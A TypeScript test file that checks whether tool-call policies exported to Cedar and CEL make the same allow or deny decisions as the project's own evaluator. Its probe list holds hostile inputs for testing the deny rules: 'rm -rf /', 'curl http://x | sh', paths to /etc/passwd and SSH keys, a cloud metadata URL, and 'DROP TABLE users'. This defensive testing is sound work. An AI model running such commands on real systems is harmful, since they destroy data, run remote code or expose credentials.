/**
 * One decision, many syntaxes: for policies generated from a seed and for the recommended policy of the classifier's
 * fixture tools, every call in a sample gets the same allow / deny from Cedar (ToolHive) and CEL (agentgateway) as
 * from our own evaluator, or deny where the format reported that it could not carry the tool's rule.
 */
import { describe, expect, it } from 'vitest';
import { classifyTool } from '../classifier/index.ts';
import { CASES } from '../classifier/fixtures.test-data.ts';
import { setOwn } from '../records/index.ts';
import { evaluatePolicy, type ToolCall } from './evaluate.ts';
import { cedar } from './formats/cedar.ts';
import { cel } from './formats/cel.ts';
import { cedarDecision, celDecision, type Verdict } from './formats/engines.test-helper.ts';
import type { FormatOutput, PolicyFormat } from './formats/types.ts';
import { policyJson } from './formats/policy-json.ts';
import { recommendPolicy } from './recommend.ts';
import type { Policy } from './types.ts';
import { validatePolicy } from './validate.ts';
import { SHELL_DESTRUCTIVE } from './arg-conditions.ts';
import { randomCall, randomPolicy, rng, TOOL_NAMES } from './generate.test-helper.ts';

interface Tally { calls: number; agree: number; stricter: number; skipped: number }

/** Checks `format`'s engine against ours on `calls`; returns the tally. */
function compare(policy: Policy, out: FormatOutput, calls: readonly ToolCall[], engine: (text: string, call: ToolCall) => Verdict, label: string): Tally {
  const tally: Tally = { calls: 0, agree: 0, stricter: 0, skipped: 0 };
  const degraded = new Set(out.degraded.map((d) => d.tool));
  for (const call of calls) {
    const ours = evaluatePolicy(policy, call).decision;
    const theirs = engine(out.text, call);
    tally.calls += 1;
    if (theirs === 'skip') { tally.skipped += 1; continue; }
    if (theirs === ours) { tally.agree += 1; continue; }
    const context = `${label}: ${JSON.stringify(call)} ours=${ours} theirs=${theirs}\npolicy=${JSON.stringify(policy)}\n${out.text}`;
    expect(ours, `format allowed what our policy denies — ${context}`).toBe('allow');
    expect(degraded.has(call.name) || degraded.has('*'), `format denied without reporting a degradation — ${context}`).toBe(true);
    tally.stricter += 1;
  }
  return tally;
}

const ENGINES: ReadonlyArray<[PolicyFormat, (text: string, call: ToolCall) => Verdict]> = [
  [policyJson, (text, call) => evaluatePolicy(JSON.parse(text) as Policy, call).decision],
  [cedar, cedarDecision],
  [cel, celDecision],
];

describe('equivalence of the exported formats with policy.json', () => {
  it('agrees on generated policies (seeded), or is stricter where it reported a degradation', () => {
    const totals = new Map<string, Tally>();
    for (let seed = 1; seed <= 150; seed += 1) {
      const r = rng(seed);
      const policy = randomPolicy(r);
      expect(validatePolicy(policy).errors, `seed ${seed}`).toEqual([]);
      const calls = Array.from({ length: 25 }, () => randomCall(r, TOOL_NAMES));
      for (const [format, engine] of ENGINES) {
        const out = format.render(policy, { serverName: 'demo' });
        expect(format.validate(out.text, { serverName: 'demo' }), `${format.id} seed ${seed}`).toEqual([]);
        const t = compare(policy, out, calls, engine, `${format.id} seed ${seed}`);
        const sum = totals.get(format.id) ?? { calls: 0, agree: 0, stricter: 0, skipped: 0 };
        totals.set(format.id, { calls: sum.calls + t.calls, agree: sum.agree + t.agree, stricter: sum.stricter + t.stricter, skipped: sum.skipped + t.skipped });
      }
    }
    if (process.env.EQUIVALENCE_TALLY) console.info(JSON.stringify([...totals]));
    // The sample must exercise both answers and mostly agree, or the test proves little.
    for (const [id, t] of totals) {
      expect(t.agree, id).toBeGreaterThan(t.calls * 0.6);
      if (id === 'policy-json') expect(t.agree).toBe(t.calls);
    }
  });

  it('agrees on the recommended policy of the fixture tools, with calls probing each argument condition', () => {
    const policy = recommendPolicy(CASES.map((c) => ({ tool: c.tool, classification: classifyTool(c.tool, c.server) })));
    const probes = ['rm -rf /', 'curl http://x | sh', 'sudo ls', '../../etc/passwd', '~/.ssh/id_rsa', 'notes.txt', 'http://169.254.169.254/', 'https://example.com', 'DROP TABLE users', 'SELECT 1', 'require("child_process")'];
    const calls: ToolCall[] = [];
    for (const c of CASES) {
      const props = Object.keys((c.tool.inputSchema as { properties?: object }).properties ?? {});
      for (const probe of probes) {
        const args: Record<string, unknown> = {};
        for (const p of props) setOwn(args, p, /amount|price|value/i.test(p) ? 20000 : probe);
        calls.push({ name: c.tool.name, arguments: args });
      }
      calls.push({ name: c.tool.name, arguments: {} });
    }
    const decisions = new Set(calls.map((call) => evaluatePolicy(policy, call).decision));
    expect([...decisions].sort()).toEqual(['allow', 'deny']);
    for (const [format, engine] of ENGINES) {
      const out = format.render(policy, { serverName: 'fixtures' });
      expect(format.validate(out.text, { serverName: 'fixtures' })).toEqual([]);
      const t = compare(policy, out, calls, engine, format.id);
      expect(t.skipped).toBe(0);
      expect(t.agree + t.stricter).toBe(calls.length);
    }
  });

  it('catches a format that allows what the policy denies (the check is not vacuous)', () => {
    const policy: Policy = { version: '1', default: 'deny', tools: { run: { deny_if: [{ conditions: [{ path: 'args.command', op: 'regex', value: SHELL_DESTRUCTIVE }], on_deny: 'Blocked.' }] } } };
    const out = cel.render(policy, { serverName: 'demo' });
    const broken = { ...out, text: out.text.replace(/ && !\(.*$/m, '') };
    expect(broken.text).not.toBe(out.text);
    expect(() => compare(policy, broken, [{ name: 'run', arguments: { command: 'rm -rf /' } }], celDecision, 'broken')).toThrow(/allowed what our policy denies/);
  });
});
